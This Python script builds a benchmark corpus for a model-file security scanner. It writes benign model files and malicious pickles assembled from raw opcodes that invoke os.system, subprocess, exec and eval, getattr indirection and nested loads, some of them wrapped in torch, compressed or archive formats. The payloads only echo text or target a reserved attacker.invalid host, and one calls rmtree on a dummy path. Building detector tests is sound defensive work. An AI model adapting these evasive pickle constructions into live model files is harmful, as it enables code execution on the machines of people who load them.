"""Build the model-scanner benchmark corpus: benign model files and malicious ones (harmless payloads).

Files go to ``bench/out/model_corpus/{benign,malicious}/``.  Malicious pickles are assembled from raw
opcodes (GLOBAL / STACK_GLOBAL, REDUCE, nested pickles, indirection) and benign ones are written
by the standard pickler from plain data; nothing is ever unpickled, and every payload only runs ``echo`` or
names a reserved ``.invalid`` host.  Run: ``.venv/bin/python bench/model_corpus.py``.
"""

from __future__ import annotations

import bz2
import collections
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

OUT = Path(__file__).resolve().parent / "out" / "model_corpus"
ECHO = "echo aispm-bench"


def _raw_global_call(module: str, name: str, arg: str, protocol: int = 2) -> bytes:
    """GLOBAL module name; BINUNICODE arg; TUPLE1; REDUCE; STOP."""
    target = b"c" + f"{module}\n{name}\n".encode()
    if protocol < 2:  # text protocol 0: MARK, UNICODE, TUPLE
        return target + b"(V" + arg.encode() + b"\ntR."
    text = arg.encode()
    return bytes([0x80, protocol]) + target + b"X" + struct.pack("<I", len(text)) + text + b"\x85R."


def _stack_global_call(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: SHORT_BINUNICODE module, name; STACK_GLOBAL; arg; TUPLE1; REDUCE; STOP."""

    def short(s: str) -> bytes:
        b = s.encode()
        return b"\x8c" + bytes([len(b)]) + b

    return b"\x80\x04" + short(module) + short(name) + b"\x93" + short(arg) + b"\x85R."


def _getattr_indirection() -> bytes:
    """builtins.getattr(builtins.__import__('os'), 'system')('echo ...')."""

    def short(s: str) -> bytes:
        b = s.encode()
        return b"\x8c" + bytes([len(b)]) + b

    import_os = short("builtins") + short("__import__") + b"\x93" + short("os") + b"\x85R"
    get_system = short("builtins") + short("getattr") + b"\x93" + import_os + short("system") + b"\x86R"
    return b"\x80\x04" + get_system + short(ECHO) + b"\x85R."


def _nested_loads() -> bytes:
    inner = _raw_global_call("os", "system", ECHO)
    b = inner
    return b"\x80\x02cpickle\nloads\nC" + bytes([len(b)]) + b + b"\x85R."


def _zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            archive.writestr(info, data)
    return buf.getvalue()


def _torch_zip(data_pkl: bytes) -> bytes:
    return _zip({"archive/data.pkl": data_pkl, "archive/byteorder": b"little", "archive/version": b"3\n"})


def _torch_state_dict() -> bytes:
    """A PyTorch-style data.pkl: OrderedDict of tensors rebuilt by torch._utils._rebuild_tensor_v2."""

    def short(s: str) -> bytes:
        b = s.encode()
        return b"\x8c" + bytes([len(b)]) + b

    storage = (
        b"("
        + short("storage")
        + short("torch")
        + short("FloatStorage")
        + b"\x93"
        + short("0")
        + short("cpu")
        + b"K\x04t"  # BINPERSID follows
    )
    tensor = (
        short("torch._utils")
        + short("_rebuild_tensor_v2")
        + b"\x93"
        + b"("
        + storage
        + b"Q"
        + b"K\x00"
        + b"K\x04\x85"
        + b"K\x01\x85"
        + b"\x89"
        + short("collections")
        + short("OrderedDict")
        + b"\x93"
        + b")R"
        + b"tR"
    )
    return (
        b"\x80\x02"
        + short("collections")
        + short("OrderedDict")
        + b"\x93"
        + b")R"
        + b"("
        + short("weight")
        + tensor
        + b"u."
    )


def _safetensors() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(64)


def _npy(descr: str = "<f4", body: bytes = bytes(16)) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (4,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def _tar(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


BENIGN: dict[str, Callable[[], bytes]] = {
    "labels.pkl": lambda: pickle.dumps({"labels": ["a", "b"], "version": 3}, protocol=4),
    "config_p0.pkl": lambda: pickle.dumps({"lr": 0.01, "layers": [64, 32]}, protocol=0),
    "ordered.pkl": lambda: pickle.dumps(collections.OrderedDict(a=1, b=[1.0, 2.0]), protocol=2),
    "vocab_p5.pkl": lambda: pickle.dumps({f"tok{i}": i for i in range(500)}, protocol=5),
    "state_dict.pt": lambda: _torch_zip(_torch_state_dict()),
    "weights.safetensors": _safetensors,
    "array.npy": _npy,
    "arrays.npz": lambda: _zip({"a.npy": _npy(), "b.npy": _npy()}),
    "labels.pkl.gz": lambda: gzip.compress(pickle.dumps(["x", "y"], protocol=4), mtime=0),
    "model.gguf": lambda: b"GGUF" + struct.pack("<IQQ", 3, 0, 0),
}

MALICIOUS: dict[str, Callable[[], bytes]] = {
    "os_system_p2.pkl": lambda: _raw_global_call("os", "system", ECHO),
    "posix_system_p0.pkl": lambda: _raw_global_call("posix", "system", ECHO, protocol=0),
    "stack_global_exec.pkl": lambda: _stack_global_call("builtins", "exec", "print('aispm-bench')"),
    "eval_p4.pkl": lambda: _stack_global_call("builtins", "eval", "1+1"),
    "subprocess_popen.pkl": lambda: _stack_global_call("subprocess", "Popen", ECHO),
    "getattr_indirection.pkl": _getattr_indirection,
    "nested_loads.pkl": _nested_loads,
    "runpy.pkl": lambda: _stack_global_call("runpy", "_run_code", "print(1)"),
    "webbrowser.pkl": lambda: _stack_global_call("webbrowser", "open", "http://attacker.invalid/"),
    "torch_zip_os_system.pt": lambda: _torch_zip(_raw_global_call("os", "system", ECHO)),
    "torch_dotted_os.pt": lambda: _torch_zip(_stack_global_call("torch", "os.system", ECHO)),
    "gzip_pickle.pkl.gz": lambda: gzip.compress(_raw_global_call("os", "system", ECHO), mtime=0),
    "bz2_joblib.joblib.bz2": lambda: bz2.compress(_raw_global_call("os", "system", ECHO)),
    "xz_pickle.pkl.xz": lambda: lzma.compress(_raw_global_call("os", "system", ECHO)),
    "object_npy.npy": lambda: _npy("|O", _raw_global_call("os", "system", ECHO)),
    "zip_of_pickle.zip": lambda: _zip({"inner/model.pkl": _raw_global_call("os", "system", ECHO)}),
    "tar_of_pickle.tar": lambda: _tar("model.pkl", _raw_global_call("os", "system", ECHO)),
    "socket_p2.pkl": lambda: _raw_global_call("socket", "create_connection", "attacker.invalid"),
    "shutil_rmtree.pkl": lambda: _raw_global_call("shutil", "rmtree", "/nonexistent-aispm"),
    "importlib_import.pkl": lambda: _stack_global_call("importlib", "import_module", "os"),
}


def build(out: Path = OUT) -> dict[str, list[Path]]:
    """Write the corpus; returns the files by label (``benign``, ``malicious``)."""
    made: dict[str, list[Path]] = {}
    for label, builders in (("benign", BENIGN), ("malicious", MALICIOUS)):
        folder = out / label
        folder.mkdir(parents=True, exist_ok=True)
        made[label] = []
        for name, builder in builders.items():
            path = folder / name
            path.write_bytes(builder())
            made[label].append(path)
    return made


if __name__ == "__main__":
    files = build()
    print(f"{len(files['benign'])} benign and {len(files['malicious'])} malicious files in {OUT}")
